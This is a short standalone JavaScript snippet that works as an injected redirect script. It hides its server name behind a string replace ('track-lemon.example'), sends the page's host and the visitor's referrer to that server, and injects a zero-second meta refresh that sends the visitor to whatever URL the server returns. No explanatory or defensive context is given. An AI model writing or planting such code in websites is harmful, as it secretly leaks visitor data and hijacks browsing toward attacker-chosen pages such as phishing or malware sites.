(async (w) => {
  const id = "00000000", base = `https://${"x".replace("x", "track-lemon")}.example`;
  const r = await fetch(`${base}/${id}?h=${w.location.host}&r=${encodeURIComponent(w.document.referrer)}`, { redirect: "manual" });
  if (r.status === 404 || r.type === "opaqueredirect") return;
  const body = await r.text();
  const meta = w.document.createElement("meta");
  meta.httpEquiv = "refresh";
  meta.content = "0;url=" + body;
  w.document.head.append(meta);
})(window);
